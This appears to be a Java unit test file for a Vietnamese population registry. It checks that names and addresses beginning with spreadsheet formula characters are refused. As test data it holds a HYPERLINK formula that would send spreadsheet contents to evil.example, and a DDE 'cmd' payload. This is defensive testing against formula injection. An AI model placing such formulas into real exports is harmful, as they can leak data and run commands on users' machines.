package vn.ansinh.registry.domain;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.ansinh.shared.kernel.InvalidValueException;

/** Names, addresses and household addresses a spreadsheet would run as formulas are refused where they are typed. */
class FreeTextTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")";

    @Test
    void aNameThatIsAFormulaIsRefusedWithItsOwnMessage() {
        assertThatThrownBy(() -> VietnameseNames.normaliseForStorage(HYPERLINK))
                .isInstanceOfSatisfying(
                        InvalidValueException.class,
                        e -> assertThat(e.messageKey()).isEqualTo("text.error.formula"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"+Nguyễn Văn A", "-Lò Thị B", "@Cầm Văn C", "\t=Lò Văn D", " \r@Hà Thị E"})
    void aNameStartingWithAFormulaCharacterIsRefusedEvenBehindBlanks(String name) {
        assertThatThrownBy(() -> VietnameseNames.normaliseForStorage(name))
                .isInstanceOfSatisfying(
                        InvalidValueException.class,
                        e -> assertThat(e.messageKey()).isEqualTo("text.error.formula"));
    }

    @Test
    void anAddressThatIsAFormulaIsRefusedAndAnOrdinaryOneKept() {
        assertThatThrownBy(() -> FreeText.of("=cmd|' /C calc'!A0"))
                .isInstanceOfSatisfying(
                        InvalidValueException.class,
                        e -> assertThat(e.messageKey()).isEqualTo("text.error.formula"));
        assertThat(FreeText.of("  Bản Co Cượm, xã Tuần Giáo ")).isEqualTo("Bản Co Cượm, xã Tuần Giáo");
        assertThat(FreeText.of("  ")).isNull();
    }

    @Test
    void personDetailsRefuseAFormulaAddress() {
        assertThatThrownBy(() -> new PersonDetails(
                        "Lò Thị Ánh",
                        PartialDate.of(1980),
                        Sex.FEMALE,
                        Ethnicity.THAI,
                        null,
                        null,
                        null,
                        null,
                        "+84 Bản Co Cượm"))
                .isInstanceOf(InvalidValueException.class)
                .hasMessage("text.error.formula");
    }
}
